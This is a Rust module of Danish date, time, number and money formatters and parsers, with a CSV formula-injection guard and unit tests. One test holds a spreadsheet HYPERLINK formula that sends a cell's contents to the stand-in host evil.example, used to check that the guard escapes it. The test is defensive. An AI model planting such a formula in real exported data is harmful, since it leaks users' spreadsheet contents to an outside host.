//! Danish formats for dates and numbers.

use chrono::{DateTime, Datelike, NaiveDate, Utc};

const MONTHS: [&str; 12] = [
    "januar",
    "februar",
    "marts",
    "april",
    "maj",
    "juni",
    "juli",
    "august",
    "september",
    "oktober",
    "november",
    "december",
];

/// `5. marts 2026`
pub fn date_long(d: NaiveDate) -> String {
    format!("{}. {} {}", d.day(), MONTHS[d.month0() as usize], d.year())
}

/// `05.03.2026`
pub fn date_short(d: NaiveDate) -> String {
    d.format("%d.%m.%Y").to_string()
}

/// A period such as `5.–9. marts 2026` or `28. februar – 3. marts 2026`.
pub fn date_range(start: NaiveDate, end: NaiveDate) -> String {
    if start == end {
        date_long(start)
    } else if start.year() == end.year() && start.month() == end.month() {
        format!("{}.–{}", start.day(), date_long(end))
    } else if start.year() == end.year() {
        format!(
            "{}. {} – {}",
            start.day(),
            MONTHS[start.month0() as usize],
            date_long(end)
        )
    } else {
        format!("{} – {}", date_long(start), date_long(end))
    }
}

/// A moment in Danish time, `05.03.2026 kl. 14.07`.
pub fn timestamp(t: DateTime<Utc>) -> String {
    // Danish time without a time-zone database: CET, CEST from the last Sunday of March to the
    // last Sunday of October (01:00 UTC both ends).
    let year = t.year();
    let last_sunday = |month: u32| {
        let last =
            NaiveDate::from_ymd_opt(year, month, 31).expect("March and October have 31 days");
        last - chrono::Duration::days(last.weekday().num_days_from_sunday() as i64)
    };
    let summer_start = last_sunday(3)
        .and_hms_opt(1, 0, 0)
        .expect("valid")
        .and_utc();
    let summer_end = last_sunday(10)
        .and_hms_opt(1, 0, 0)
        .expect("valid")
        .and_utc();
    let offset = if t >= summer_start && t < summer_end {
        2
    } else {
        1
    };
    let local = t + chrono::Duration::hours(offset);
    local.format("%d.%m.%Y kl. %H.%M").to_string()
}

/// Whole numbers with a dot as thousands separator: `12.345`.
pub fn thousands(n: i64) -> String {
    let digits = n.unsigned_abs().to_string();
    let mut out = String::new();
    for (i, c) in digits.chars().enumerate() {
        if i > 0 && (digits.len() - i).is_multiple_of(3) {
            out.push('.');
        }
        out.push(c);
    }
    if n < 0 { format!("-{out}") } else { out }
}

/// Euro cents as `€ 1.234` (whole euros) or `€ 1.234,50`.
pub fn euro(cents: i64) -> String {
    let sign = if cents < 0 { "-" } else { "" };
    let c = cents.unsigned_abs();
    let whole = thousands((c / 100) as i64);
    match c % 100 {
        0 => format!("€ {sign}{whole}"),
        rest => format!("€ {sign}{whole},{rest:02}"),
    }
}

/// Parses the date forms Danish users type: `DD-MM-YYYY`, `DD.MM.YYYY`, `DD/MM/YYYY` or ISO.
/// A CSV cell that Excel and LibreOffice will not run as a formula: a cell starting with `=`, `+`,
/// `-`, `@`, tab or carriage return gets a leading apostrophe (OWASP's advice). A plain number such
/// as `-3,5` is left as it is, so figures stay figures.
pub fn csv_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    let Some(rest) = cell.strip_prefix(['=', '+', '-', '@', '\t', '\r']) else {
        return cell.into();
    };
    let number = rest.starts_with(|c: char| c.is_ascii_digit())
        && rest
            .bytes()
            .all(|b| b.is_ascii_digit() || b == b',' || b == b'.');
    if !(number && cell.starts_with(['-', '+'])) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

pub fn parse_date(input: &str) -> Option<NaiveDate> {
    parse_date_checked(input).ok()
}

/// The years a typed date may fall in. Udsyn plans school years and grant periods; a date outside
/// is a typo (`1.1.27`), and one far outside would break calendar feeds and charts.
pub const FIRST_YEAR: i32 = 2000;
pub const LAST_YEAR: i32 = 2100;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DateError {
    /// Not written as a date Udsyn reads.
    Format,
    /// Written right, but the day does not exist (31.02.2027).
    NoSuchDay { day: u32, month: u32, year: i32 },
    /// Outside `FIRST_YEAR`–`LAST_YEAR`.
    Year,
}

/// A typed date: `2027-03-08` (ISO), or `08.03.2027`, `8-3-2027`, `08/03/2027`, always with a
/// four-digit year between `FIRST_YEAR` and `LAST_YEAR`.
pub fn parse_date_checked(input: &str) -> Result<NaiveDate, DateError> {
    let s = input.trim();
    let numbers = |parts: Vec<&str>, widths: [(usize, usize); 3]| -> Option<[u32; 3]> {
        if parts.len() != 3 {
            return None;
        }
        let mut out = [0u32; 3];
        for (i, (part, (min, max))) in parts.iter().zip(widths).enumerate() {
            if part.len() < min || part.len() > max || !part.bytes().all(|b| b.is_ascii_digit()) {
                return None;
            }
            out[i] = part.parse().ok()?;
        }
        Some(out)
    };
    let iso = numbers(s.split('-').collect(), [(4, 4), (2, 2), (2, 2)]).map(|[y, m, d]| (d, m, y));
    let danish = || {
        let sep = s.chars().find(|c| matches!(c, '.' | '-' | '/'))?;
        numbers(s.split(sep).collect(), [(1, 2), (1, 2), (4, 4)]).map(|[d, m, y]| (d, m, y))
    };
    let (day, month, year) = iso.or_else(danish).ok_or(DateError::Format)?;
    let year = year as i32;
    let date = NaiveDate::from_ymd_opt(year, month, day).ok_or(DateError::NoSuchDay {
        day,
        month,
        year,
    })?;
    if !(FIRST_YEAR..=LAST_YEAR).contains(&year) {
        return Err(DateError::Year);
    }
    Ok(date)
}

/// A typed time of day: `13:00`, `13.00`, `9.30` or `13`.
pub fn parse_time(input: &str) -> Option<chrono::NaiveTime> {
    let s = input.trim();
    let (h, m) = match s.find([':', '.']) {
        Some(i) => (&s[..i], &s[i + 1..]),
        None => (s, "00"),
    };
    let digits = |p: &str, max: usize| {
        !p.is_empty() && p.len() <= max && p.bytes().all(|b| b.is_ascii_digit())
    };
    if !digits(h, 2) || !digits(m, 2) || m.len() != 2 {
        return None;
    }
    chrono::NaiveTime::from_hms_opt(h.parse().ok()?, m.parse().ok()?, 0)
}

/// The Danish message for a date field that could not be read, naming the field as labelled.
pub fn date_message(error: DateError, label: &str, example: &str) -> String {
    match error {
        DateError::Format => format!("Skriv «{label}» som dd.mm.åååå, fx {example}."),
        DateError::NoSuchDay { day, month, year } if (1..=12).contains(&month) => format!(
            "«{label}»: {day}. {} {year} findes ikke.",
            MONTHS[month as usize - 1]
        ),
        DateError::NoSuchDay { month, .. } => {
            format!("«{label}»: måned {month} findes ikke. Skriv datoen som dd.mm.åååå.")
        }
        DateError::Year => format!(
            "«{label}» skal ligge mellem år {FIRST_YEAR} og {LAST_YEAR}. Skriv året med fire cifre, fx {example}."
        ),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn d(y: i32, m: u32, day: u32) -> NaiveDate {
        NaiveDate::from_ymd_opt(y, m, day).unwrap()
    }

    #[test]
    fn typed_dates_have_plausible_years_and_real_days() {
        assert_eq!(parse_date("08.03.2027"), Some(d(2027, 3, 8)));
        assert_eq!(parse_date("8-3-2027"), Some(d(2027, 3, 8)));
        assert_eq!(parse_date("08/03/2027"), Some(d(2027, 3, 8)));
        assert_eq!(parse_date(" 2027-03-08 "), Some(d(2027, 3, 8)));
        for wrong in [
            "1.1.27",
            "-0044-03-15",
            "+262142-01-01",
            "8.3",
            "08.03.2027.",
            "x",
        ] {
            assert_eq!(parse_date_checked(wrong), Err(DateError::Format), "{wrong}");
        }
        for far in ["01-01-0001", "31-12-9999", "1999-12-31", "01.01.2101"] {
            assert_eq!(parse_date_checked(far), Err(DateError::Year), "{far}");
        }
        assert_eq!(
            date_message(
                parse_date_checked("31.02.2027").unwrap_err(),
                "Første dag",
                "08.03.2027"
            ),
            "«Første dag»: 31. februar 2027 findes ikke."
        );
        assert_eq!(
            date_message(
                parse_date_checked("29.02.2027").unwrap_err(),
                "Sidste dag",
                "x"
            ),
            "«Sidste dag»: 29. februar 2027 findes ikke."
        );
        assert_eq!(parse_date("29.02.2028"), Some(d(2028, 2, 29)));
        assert!(date_message(DateError::Year, "Første dag", "08.03.2027").contains("2000 og 2100"));
    }

    #[test]
    fn csv_cells_never_run_as_formulas() {
        assert_eq!(
            csv_safe("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")"),
            "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")"
        );
        for risky in ["+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "-", "=1"] {
            assert!(csv_safe(risky).starts_with('\''), "{risky}");
        }
        for plain in ["-3,5", "+45", "-1.234,50", "Søren", "Ændring", "", "12"] {
            assert_eq!(csv_safe(plain), plain);
        }
    }

    #[test]
    fn dates_in_danish() {
        assert_eq!(date_long(d(2026, 3, 5)), "5. marts 2026");
        assert_eq!(date_short(d(2026, 3, 5)), "05.03.2026");
        assert_eq!(date_range(d(2026, 3, 5), d(2026, 3, 9)), "5.–9. marts 2026");
        assert_eq!(
            date_range(d(2026, 2, 28), d(2026, 3, 3)),
            "28. februar – 3. marts 2026"
        );
        assert_eq!(
            date_range(d(2025, 12, 30), d(2026, 1, 2)),
            "30. december 2025 – 2. januar 2026"
        );
    }

    #[test]
    fn danish_time_follows_summer_time() {
        let winter = "2026-01-10T12:00:00Z".parse().unwrap();
        let summer = "2026-07-10T12:00:00Z".parse().unwrap();
        assert_eq!(timestamp(winter), "10.01.2026 kl. 13.00");
        assert_eq!(timestamp(summer), "10.07.2026 kl. 14.00");
    }

    #[test]
    fn numbers_and_money() {
        assert_eq!(thousands(0), "0");
        assert_eq!(thousands(1234567), "1.234.567");
        assert_eq!(thousands(-1000), "-1.000");
        assert_eq!(euro(123_400), "€ 1.234");
        assert_eq!(euro(123_450), "€ 1.234,50");
    }

    #[test]
    fn typed_dates() {
        for s in [
            "05-03-2026",
            "05.03.2026",
            "5/3/2026",
            "2026-03-05",
            " 05.03.2026 ",
        ] {
            assert_eq!(parse_date(s), Some(d(2026, 3, 5)), "{s}");
        }
        assert_eq!(parse_date("31.02.2026"), None);
        assert_eq!(parse_date("i morgen"), None);
    }

    #[test]
    fn times_of_day() {
        let t = |h, m| chrono::NaiveTime::from_hms_opt(h, m, 0);
        assert_eq!(parse_time("13:00"), t(13, 0));
        assert_eq!(parse_time(" 9.30 "), t(9, 30));
        assert_eq!(parse_time("13"), t(13, 0));
        assert_eq!(parse_time("24:00"), None);
        assert_eq!(parse_time("13:5"), None);
        assert_eq!(parse_time("kl. 13"), None);
        assert_eq!(parse_time(""), None);
    }
}

/// About how wide `text` is in IBM Plex Sans (the pages' font), in ems, erring on the wide side,
/// for fitting labels into a server-drawn chart.
pub fn text_em(text: &str) -> f64 {
    text.chars()
        .map(|c| match c {
            ' ' => 0.26,
            'i' | 'l' | 'j' | 'f' | 't' | 'r' | 'I' | '\'' | ',' | '.' | ':' | ';' | '!' | '|' => {
                0.34
            }
            '(' | ')' | '-' | '/' => 0.38,
            'm' | 'w' => 0.86,
            'M' | 'W' | 'Æ' | 'Œ' => 0.92,
            'A'..='Z' | 'Ø' | 'Å' | 'Ä' | 'Ö' | 'Ü' | 'É' => 0.7,
            '0'..='9' => 0.6,
            '–' | '…' => 0.62,
            '—' => 1.0,
            _ => 0.6,
        })
        .sum()
}

/// `text` cut at a word (or, failing that, a character) and ended with "…" so that it is at
/// most `max_em` wide by [`text_em`]; unchanged when it fits.
pub fn shorten_to(text: &str, max_em: f64) -> String {
    if text_em(text) <= max_em {
        return text.to_string();
    }
    let room = max_em - text_em("…");
    let mut cut = String::new();
    for c in text.chars() {
        if text_em(&cut) + text_em(&c.to_string()) > room {
            break;
        }
        cut.push(c);
    }
    // At a word when one ends in the last third, so "Strukturerede kurser" reads "Strukturerede…".
    if let Some(space) = cut.rfind(' ')
        && space * 3 >= cut.len() * 2
    {
        cut.truncate(space);
    }
    format!("{}…", cut.trim_end_matches([' ', ',', '–', '-']))
}

#[cfg(test)]
mod fit_tests {
    use super::{shorten_to, text_em};

    #[test]
    fn a_label_that_fits_is_kept_and_a_long_one_ends_in_an_ellipsis() {
        assert_eq!(
            shorten_to("Porto – Jobshadowing", 20.0),
            "Porto – Jobshadowing"
        );
        let long = "Sankt Johann im Pongau – Strukturerede kurser og træningsforløb";
        let short = shorten_to(long, 18.0);
        assert!(short.ends_with('…'), "{short}");
        assert!(text_em(&short) <= 18.0, "{short}: {}", text_em(&short));
        assert!(long.starts_with(short.trim_end_matches('…')), "{short}");
        // One word too long for the room is cut inside it.
        let word = shorten_to("Donaudampfschifffahrtsgesellschaft", 6.0);
        assert!(word.ends_with('…') && text_em(&word) <= 6.0, "{word}");
    }
}
